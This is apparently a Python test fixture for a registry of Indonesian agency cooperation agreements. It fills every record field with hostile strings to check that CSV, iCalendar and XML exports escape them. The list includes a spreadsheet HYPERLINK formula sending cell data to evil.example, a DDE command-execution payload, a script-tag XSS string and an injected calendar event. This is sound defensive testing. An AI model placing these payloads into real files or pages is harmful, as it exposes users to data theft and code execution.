"""Records for the export tests: the repository's own, and a small registry whose every text field
holds a hostile string (formulas, markup, iCalendar and CSV metacharacters)."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import yaml

from site_builder import model
from site_builder.validation import validate
from site_builder.validation.problems import Severity

REPO = Path(__file__).resolve().parents[2]
AS_OF = dt.date(2025, 6, 1)

# Each starts a formula, closes markup, or carries a metacharacter of CSV, iCalendar or XML; the
# long multibyte one forces iCalendar folding next to 2- to 4-byte UTF-8 sequences.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tdiawali tab",
    "</title></content><script>alert('x')</script>",
    "]]> &amp; &lt;b&gt; <![CDATA[ x ]]>",
    "titik koma; koma, garis miring \\ dan \"kutip\"",
    "baris satu\nBEGIN:VEVENT\nSUMMARY:palsu",
    "Kerja sama ✓ layanan kesehatan 漢字 dan 🚀 " * 4 + "akhir",
    # A YAML escape puts a NUL past the validator's raw-text scan; it must not hide the formula.
]
SOURCE = {"publisher": HOSTILE[5], "title": HOSTILE[0], "url": "https://example.org/berita?a=1&b=<2>",
          "published": "2024-01-02", "author": HOSTILE[7], "note": HOSTILE[8], "url_partial": HOSTILE[6]}


def hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def _agency(agency_id: str, i: int, kind: str, parent: str | None) -> dict:
    return {"id": agency_id, "name": hostile(i), "short_name": hostile(i + 1), "kind": kind, "parent": parent,
            "region": "63.07", "website": "https://example.org/?q=a,b;c",
            "name_history": [{"name": hostile(i + 2), "short_name": hostile(i + 3), "parent": parent,
                              "until": "2023-12-31", "original_wording": hostile(i + 4)}],
            "original_wording": hostile(i + 5), "note": hostile(i + 6), "sources": [SOURCE]}


def _agreement(agreement_id: str, partner: str, i: int, end: object, renews: str | None = None,
               start: object = "2023-06-01") -> dict:
    record = {
        "id": agreement_id, "title": hostile(i), "official_title": hostile(i + 1), "kind": "perjanjian-kerja-sama",
        "signed": {"date": start, "place": hostile(i + 2)},
        "parties": [
            {"agency": "lapas-uji", "role": "pihak-pertama", "document_number": hostile(i + 3),
             "signatory": {"name": hostile(i + 4), "position": hostile(i + 5), "agency": "kanwil-uji"}},
            {"agency": partner, "role": "pihak-kedua", "document_number": None, "signatory": None},
        ],
        "witnesses": [{"name": hostile(i + 6), "position": hostile(i + 7), "agency": partner}],
        "scope": [{"id": "butir-satu", "theme": "kesehatan", "description": hostile(i + 8),
                   "original_wording": hostile(i + 9)}],
        "validity": {"start": start, "end": end, "note": hostile(i + 3), "original_wording": hostile(i + 4)},
        "note": hostile(i + 5),
        "sources": [SOURCE],
    }
    if renews:
        record["relations"] = {"renews": renews}
    return record


def _with_term(record: dict, duration: dict) -> dict:
    return {**record, "validity": {**record["validity"], "duration": duration}}


def _plan(plan_id: str, agreement_id: str, partner: str, i: int) -> dict:
    return {"id": plan_id, "agreement": agreement_id, "title": hostile(i), "note": hostile(i + 1),
            "activities": [{
                "id": "kegiatan-satu", "title": hostile(i + 2), "scope_item": "butir-satu",
                "responsible": {"agency": partner, "unit": hostile(i + 3)},
                "schedule": {"start": "2023-07-01", "end": "2023-12-31", "frequency": "bulanan"},
                "indicator": hostile(i + 4), "target": {"value": 20, "unit": hostile(i + 5)},
                "budget_source": "apbd", "status": "berjalan", "note": hostile(i + 6),
                "original_wording": hostile(i + 7),
                "progress": [{"date": "2023-09-30", "realisation": hostile(i + 8), "value": 7.5,
                              "evidence": "https://example.org/bukti?x=1&y=2"}],
            }],
            "sources": [SOURCE]}


# A document kept in the repository (documents[].path), whose checksum the validator verifies.
DOCUMENT_PATH = "documents/lapas-uji/pks-badan-uji.txt"
DOCUMENT = "Salinan perjanjian uji.\n".encode("utf-8")

RECORDS = {
    "agencies/kanwil-uji.yaml": _agency("kanwil-uji", 0, "kantor-wilayah", None),
    "agencies/lapas-uji.yaml": _agency("lapas-uji", 1, "upt-pemasyarakatan", "kanwil-uji"),
    "agencies/dinas-uji.yaml": _agency("dinas-uji", 2, "perangkat-daerah", None),
    "agencies/badan-uji.yaml": {**_agency("badan-uji", 3, "perangkat-daerah", None), "maintainers": ["humas-uji"]},
    # exact end, ranged end, unknown end (no calendar event), and a renewal chain
    # its exact end lies within the range of terms it also gives (start + 1y6m - 1 day .. start + 3y1d)
    "agreements/lapas-uji/lapas-uji-dinas-uji-2023.yaml": _with_term(
        _agreement("lapas-uji-dinas-uji-2023", "dinas-uji", 4, "2025-12-31", renews="lapas-uji-dinas-uji-lama"),
        {"shortest": {"years": 1, "months": 6, "days": 0}, "longest": {"years": 3, "months": 0, "days": 1}}),
    "agreements/lapas-uji/lapas-uji-badan-uji-2023.yaml": {
        **_agreement("lapas-uji-badan-uji-2023", "badan-uji", 5, {"earliest": "2024-06-01", "latest": "2026-06-01"}),
        # the optional parts of an agreement, so that every field of the schema reaches the exports
        "termination": {"date": "2025-01-31", "reason": hostile(9)},
        "documents": [{"title": hostile(10), "url": "https://example.org/pks.pdf?a=1&b=2", "sha256": "0" * 64},
                      {"title": hostile(0), "path": DOCUMENT_PATH, "sha256": hashlib.sha256(DOCUMENT).hexdigest()}],
    },
    # signed and started on a day known only as a range, ended on a day not known at all
    "agreements/lapas-uji/lapas-uji-dinas-uji-lama.yaml": {
        **_agreement("lapas-uji-dinas-uji-lama", "dinas-uji", 6, None,
                     start={"earliest": "2019-01-01", "latest": "2019-12-31"}),
        "kind": "nota-kesepahaman",
    },
    # an addendum under an umbrella MoU: the two relations the others do not use; no end, so no event
    "agreements/lapas-uji/lapas-uji-badan-uji-adendum.yaml": {
        **_agreement("lapas-uji-badan-uji-adendum", "badan-uji", 9, None),
        "kind": "adendum",
        "relations": {"amends": "lapas-uji-badan-uji-2023", "umbrella": "lapas-uji-dinas-uji-lama"},
    },
    # what sources say beyond dates (issue 9): a signing date bounded only from above, a term with the end
    # derived from it, the source's word for the kind, a basis, attendees, conflicting reports, a cut-off URL
    "agreements/lapas-uji/lapas-uji-badan-uji-2024.yaml": {
        **_agreement("lapas-uji-badan-uji-2024", "badan-uji", 2, None, start="2024-02-01"),
        "signed": {"date": {"latest": "2024-01-14"}, "place": hostile(3)},
        "kind_wording": hostile(4),
        "witnesses": [{"name": hostile(6), "position": hostile(7), "agency": "badan-uji"}, {"group": hostile(8)}],
        "present": [{"name": hostile(9), "position": None, "agency": "kanwil-uji"}, {"group": hostile(0)}],
        "basis": {"text": hostile(1), "by": {"name": hostile(2), "position": hostile(3), "agency": "kanwil-uji"},
                  "original_wording": hostile(4)},
        "conflicts": [{"field": "signed.place", "values": [{"value": hostile(5), "source": 1}, {"value": hostile(6), "source": 2}],
                       "note": hostile(7)}],
        "sources": [SOURCE, {**SOURCE, "url": None, "url_partial": "https://example.org/berita/terpotong-<b>&..."}],
        "validity": {"start": "2024-02-01", "end": None, "duration": {"years": 5, "months": 0, "days": 0}, "note": hostile(5)},
    },
    "agreements/lapas-uji/rencana-aksi/ra-lapas-uji-dinas-uji-2023.yaml":
        _plan("ra-lapas-uji-dinas-uji-2023", "lapas-uji-dinas-uji-2023", "dinas-uji", 7),
    "agreements/lapas-uji/rencana-aksi/ra-lapas-uji-badan-uji-2023.yaml":
        _plan("ra-lapas-uji-badan-uji-2023", "lapas-uji-badan-uji-2023", "badan-uji", 8),
}
HOSTILE_SUBJECT = "Tambah <rekaman> & \"kutip\" ]]> =1+1"
GIT_ENV = {"GIT_AUTHOR_NAME": "Uji", "GIT_AUTHOR_EMAIL": "uji@example.org", "GIT_COMMITTER_NAME": "Uji",
           "GIT_COMMITTER_EMAIL": "uji@example.org", "GIT_AUTHOR_DATE": "2024-02-03T04:05:06+08:00",
           "GIT_COMMITTER_DATE": "2024-02-03T04:05:06+08:00"}


def git(root: Path, *args: str) -> str:
    env = {**os.environ, **GIT_ENV, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True, text=True, env=env).stdout


class _NoAliasDumper(yaml.SafeDumper):
    """Records share Python objects (a date written twice); the validator refuses anchors and aliases."""

    def ignore_aliases(self, data) -> bool:
        return True


def write_registry(root: Path, records: dict[str, dict]) -> None:
    shutil.copytree(REPO / "schema", root / "schema")
    (root / DOCUMENT_PATH).parent.mkdir(parents=True, exist_ok=True)
    (root / DOCUMENT_PATH).write_bytes(DOCUMENT)
    for relpath, data in records.items():
        target = root / relpath
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(yaml.dump(data, Dumper=_NoAliasDumper, allow_unicode=True, sort_keys=False, width=200),
                          encoding="utf-8")


def build(root: Path, as_of: dt.date = AS_OF) -> model.Registry:
    """validate.validate then model.build, as `pks build` does; any error fails the fixture, so a
    test can never pass on a registry that silently lost records."""
    report, shaped = validate.validate(root, as_of)
    errors = [p for p in report.problems if p.severity is Severity.ERROR]
    assert not errors, errors
    return model.build(shaped, as_of)
